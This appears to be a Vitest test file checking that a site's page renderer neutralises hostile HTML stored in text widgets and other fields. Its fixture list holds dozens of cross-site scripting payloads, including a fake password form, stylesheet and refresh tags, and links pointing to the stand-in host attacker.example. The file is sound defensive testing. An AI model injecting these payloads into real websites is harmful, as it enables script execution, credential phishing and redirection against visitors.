import { describe, expect, test } from 'vitest'
import { all, only, parseHtml, textOf } from '../support/html.ts'
import { policyProblems } from '../support/policy.ts'
import { publish } from '../support/publish.ts'
import { visit } from '../support/visit.ts'

/** HTML an attacker with an editor's account, or an old row, might hold. */
const hostile = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//attacker.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jAvAsCrIpT&colon;alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//attacker.example">x</a>',
  '<a href="/\\attacker.example">x</a>',
  '<a href="/\t/attacker.example">x</a>',
  '<iframe src="https://attacker.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://attacker.example"><input name=password><button>Sign in</button></form>',
  '<p style="position:fixed;inset:0;background:url(//attacker.example)">x</p>',
  '<style>@import "//attacker.example";body{display:none}</style>',
  '<link rel=stylesheet href=//attacker.example>',
  '<base href="//attacker.example/">',
  '<meta http-equiv=refresh content="0;url=//attacker.example">',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<p onclick=alert(1) onmouseover="alert(1)">x</p>',
  '</div></section></main></body></html><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<p id="main" class="toasts" name="leads" data-island="lead-form" data-props="{}">x</p>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video><source onerror=alert(1)></video>',
  '<a href="https://ok.example" target=_blank ping=//attacker.example>x</a>',
  `<p>${'<b>'.repeat(5000)}deep</p>`,
]

describe.each(hostile.map((body, index) => ({ body, slug: `page/hostile-${index}` })))('$body', (page) => {
  test('is inert in a text body, and what follows it is intact', async () => {
    const after = { type: 'text', content: { body: '<p>after</p>' } }
    await publish({ slug: page.slug, widgets: [{ type: 'text', content: { body: page.body } }, after] })
    const response = await visit(`/${page.slug}`)
    expect(response.status).toBe(200)
    expect(await policyProblems(response)).toEqual([])

    const document = parseHtml(await response.text())
    const bodies = all(only(document, 'main'), ({ attributes }) => attributes.class === 'prose-body')
    expect(bodies).toHaveLength(2)
    expect(bodies.map(textOf).at(-1)).toBe('after')
    for (const body of bodies) {
      const names = all(body).flatMap(({ attributes }) => Object.keys(attributes))
      expect(names.filter((name) => !['href', 'rel', 'src', 'alt', 'loading'].includes(name))).toEqual([])
      const hrefs = all(body, 'a').map(({ attributes }) => attributes.href ?? '')
      expect(hrefs.filter((href) => /attacker|^\/[\\/\s]/.test(href))).toEqual([])
      const forms = all(body, ({ tag }) =>
        ['form', 'input', 'button', 'template', 'svg', 'math'].includes(tag),
      )
      expect(forms).toEqual([])
    }
    expect(only(document, ({ attributes }) => attributes.id === 'main').tag).toBe('main')
  })
})

test('hostile strings in every other field are rendered as text', async () => {
  const attack = '"><img src=x onerror=alert(1)></script><script>alert(1)</script>{name}'
  await publish({
    slug: 'page/fields',
    title: attack,
    description: attack,
    widgets: [
      { type: 'hero', content: { title: attack, subtitle: attack, cta_text: attack, cta_link: '/x"><b>' } },
      { type: 'contact', content: { title: attack, submit_text: attack, lead_source: attack } },
      { type: attack },
    ],
  })
  for (const path of ['/page/fields', '/ar/page/fields']) {
    const response = await visit(path)
    expect(response.status).toBe(200)
    expect(await policyProblems(response)).toEqual([])
    const html = await response.text()
    const document = parseHtml(html)
    expect(textOf(only(document, 'h1'))).toContain('{name}')
    // A props attribute keeps the string as data, whole.
    const island = only(document, ({ attributes }) => attributes['data-island'] === 'lead-form')
    expect(JSON.parse(island.attributes['data-props'] ?? '').submit).toBe(attack)
  }
})
